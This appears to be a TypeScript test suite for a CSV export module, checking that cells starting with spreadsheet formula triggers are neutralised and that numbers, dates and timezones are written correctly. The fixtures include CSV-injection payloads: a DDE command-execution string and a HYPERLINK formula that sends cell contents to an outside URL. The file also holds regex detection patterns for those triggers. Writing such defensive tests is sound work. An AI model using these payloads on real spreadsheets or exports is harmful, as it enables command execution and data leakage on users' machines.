import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import { always } from '#e2e/support/doubles/api.ts';
import type { Zone } from '#domain/values/calendar.ts';
import { csvCell, csvOf, defused, undefused } from './csv.ts';
import type { Field, Kind } from './field.ts';

const numRuns = Math.min(Number(process.env['FUZZ_RUNS'] ?? 40), 10_000);
const trigger = /^[=+\-@\t\r\n\0＝＋－＠]/u;
const hiddenTrigger = /^\s*[=+\-@＝＋－＠]/u;
const plainNumber = /^-?\d+(\.\d+)?$/;
const phone = /^\+\d[\d \u00a0]*$/;

type Row = readonly (string | null)[];

function fieldsOf(kinds: readonly Kind[]): readonly Field<Row>[] {
  return kinds.map((kind, index) => ({
    key: `field_${index}`,
    kind,
    value: (row) => row[index] ?? null,
  }));
}

function cell(kind: Kind, value: string | null, zone?: Zone): string {
  const [field] = fieldsOf([kind]);
  return field ? csvCell(field, [value], zone) : '';
}

/** The text of a file, with its byte order mark. */
async function textOf(file: Blob): Promise<string> {
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await file.arrayBuffer());
}

function inUtf8(written: string): string {
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(new TextEncoder().encode(written));
}

async function cellsOf(file: Blob): Promise<readonly (readonly string[])[]> {
  const text = (await textOf(file)).slice(1);
  return Papa.parse<string[]>(text.slice(0, -2), { delimiter: ',', newline: '\r\n' }).data;
}

const kinds: readonly Kind[] = ['id', 'word', 'text', 'yes-no', 'amount', 'count', 'moment', 'day'];
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.stringMatching(/^[ \t\r\n\0=+\-@＝＋－＠"',;.0-9a-z\u00a0\ufeff\u200e]{0,12}$/u),
  fc.constantFrom(
    '=1+1',
    '+33 1 40 20 50 50',
    '-12.50',
    '  @SUM(1)',
    '\u200e=1',
    '0000-01-01T00:00:00+14:00',
    '2026-11-20 09:41:00',
    '=HYPERLINK("http://example.org?x="&A1,"press")',
    "=cmd|' /C calc'!A0",
  ),
);

describe('security 12: a text in a file', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0958', '+44 20 7946 0958'],
    ['+1-415-555-0100', "'+1-415-555-0100"],
    ['+1+cmd', "'+1+cmd"],
    ['Smith;=HYPERLINK(A1)', "Smith;'=HYPERLINK(A1)"],
    ['a\t@b;c', "a\t'@b;c"],
    ['a; "=1', 'a;\' "=1'],
    ['a;\r\n-1', "a;\r\n'-1"],
    ['a;b=c', 'a;b=c'],
    ['-5', "'-5"],
    ['@here', "'@here"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\0=x', "'\0=x"],
    ['＝1', "'＝1"],
    ['－1', "'－1"],
    ['  =1', "'  =1"],
    ['\u00a0+1', "'\u00a0+1"],
    ['\u200e=1', "'\u200e=1"],
    ['4821', '4821'],
    ['007', '007'],
    ["'=1", "'=1"],
    ['a=b', 'a=b'],
    ['ليلى حدّاد', 'ليلى حدّاد'],
    ['', ''],
  ])('%j is written as %j', (given, said) => {
    expect(defused(given)).toBe(said);
    if (given !== "'=1") expect(undefused(said)).toBe(given);
  });
});

describe('a cell', () => {
  it.each<[Kind, string | null, string]>([
    ['amount', '-12.50', '-12.50'],
    ['amount', ' +12.50 ', '12.50'],
    ['amount', '$1,234.50', '1234.50'],
    ['amount', '1,2345', '1,2345'],
    ['amount', '-twelve', "'-twelve"],
    ['amount', '-1e5', "'-1e5"],
    ['amount', null, ''],
    ['count', '-3', '-3'],
    ['id', '-3', "'-3"],
    ['id', '90417', '90417'],
    ['word', '@all', "'@all"],
    ['yes-no', 'true', 'true'],
    ['moment', '2026-11-20T09:41:00+01:00', '2026-11-20T08:41:00+00:00'],
    ['moment', '2026-11-20 09:41:00 +0100', '2026-11-20T08:41:00+00:00'],
    ['moment', '2026-11-20T09:41:00.123456Z', '2026-11-20T09:41:00.123456+00:00'],
    ['moment', '2026-11-20 09:41:00', '2026-11-20 09:41:00'],
    ['moment', '2026-11-20', '2026-11-20'],
    ['moment', 'soon', 'soon'],
    ['moment', '=soon', "'=soon"],
    ['moment', '0000-01-01T00:00:00+14:00', '0000-01-01T00:00:00+14:00'],
    ['day', '2026-12-12', '2026-12-12'],
    ['day', '2026-12-12T00:00:00+01:00', '2026-12-11'],
  ])('of kind %s with %j is %j', (kind, given, said) => {
    expect(cell(kind, given)).toBe(said);
  });
});

it('has days and moments in the zone that the screen shows', () => {
  const gift = '2026-11-24T04:00:00Z';
  onTestFinished(() => void vi.unstubAllEnvs());
  vi.stubEnv('TZ', 'America/Los_Angeles');
  expect([cell('day', gift), cell('moment', gift)]).toEqual(['2026-11-23', '2026-11-23T20:00:00-08:00']);
  vi.stubEnv('TZ', 'Pacific/Auckland');
  expect([cell('day', gift), cell('moment', gift)]).toEqual(['2026-11-24', '2026-11-24T17:00:00+13:00']);
  expect([cell('day', gift, 'UTC'), cell('moment', gift, 'UTC')]).toEqual(['2026-11-24', '2026-11-24T04:00:00+00:00']);
});

describe('a file', () => {
  it('is RFC 4180 with a byte order mark, under the keys of its fields', async () => {
    const fields = fieldsOf(['id', 'text', 'amount']);
    const file = csvOf(
      [
        ['1', 'Ames, "Ruth"\nAmes', '-4.20'],
        ['2', null, null],
      ],
      fields,
      undefined,
    );
    expect(file.type).toBe('text/csv;charset=utf-8');
    expect(await textOf(file)).toBe('\uFEFFfield_0,field_1,field_2\r\n1,"Ames, ""Ruth""\nAmes",-4.20\r\n2,,\r\n');
  });

  it('without rows has its head', async () => {
    expect(await textOf(csvOf([], fieldsOf(['id', 'text']), undefined))).toBe('\uFEFFfield_0,field_1\r\n');
  });

  it('P16 never starts a cell with what a spreadsheet would run, and loses nothing', async () => {
    const table = fc.array(fc.constantFrom(...kinds), { minLength: 1, maxLength: 6 }).chain((chosen) =>
      fc.record({
        chosen: fc.constant(chosen),
        rows: fc.array(fc.array(fc.option(text), { minLength: chosen.length, maxLength: chosen.length }), {
          maxLength: 8,
        }),
      }),
    );
    await always(
      'P16',
      fc.asyncProperty(table, async ({ chosen, rows }) => {
        const fields = fieldsOf(chosen);
        const [head, ...lines] = await cellsOf(csvOf(rows, fields, undefined));
        expect(head).toEqual(fields.map(({ key }) => key));
        expect(lines).toHaveLength(rows.length);
        lines.forEach((line, at) => {
          expect(line).toHaveLength(chosen.length);
          line.forEach((read, place) => {
            const kind = chosen[place] as Kind;
            const isNumber = (kind === 'amount' || kind === 'count') && plainNumber.test(read);
            if (!isNumber && !phone.test(read)) expect(read).not.toMatch(trigger);
            if (!isNumber && !phone.test(read)) expect(read).not.toMatch(hiddenTrigger);
            const given = rows[at]?.[place] ?? '';
            // A lone half of a surrogate pair is no text; UTF-8 has a sign in its place.
            const there = inUtf8(cell(kind, given));
            expect(read).toBe(there);
            if (kind === 'text' || kind === 'id') expect(undefused(read)).toBe(inUtf8(undefused(given)));
          });
        });
      }),
    );
  });

  it('P16 holds for a reader that splits at semicolons or tabs, too', async () => {
    const rows = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 4 });
    await always(
      'P16',
      fc.asyncProperty(
        rows,
        fc.constantFrom(';', '\t'),
        fc.constantFrom('\r\n', '\n'),
        async (given, delimiter, newline) => {
          const file = await textOf(csvOf(given, fieldsOf(['text', 'text', 'text']), undefined));
          const read = Papa.parse<string[]>(file.slice(1), { delimiter, newline }).data.flat();
          // A whole line starts with a phone here, and is no formula.
          for (const cell of read.filter((each) => !/^\s*\+\d[\d \u00a0]*(?:,|$)/.test(each))) {
            expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
          }
        },
      ),
    );
  });

  it('leaves numbers as they are', async () => {
    const numbers = fc.array(fc.stringMatching(/^-?\d{1,20}(\.\d{1,6})?$/), { minLength: 1, maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(numbers, async (given) => {
        const file = csvOf(
          given.map((number) => [number]),
          fieldsOf(['amount']),
          undefined,
        );
        expect((await cellsOf(file)).slice(1).flat()).toEqual(given);
      }),
      { numRuns },
    );
  });
});
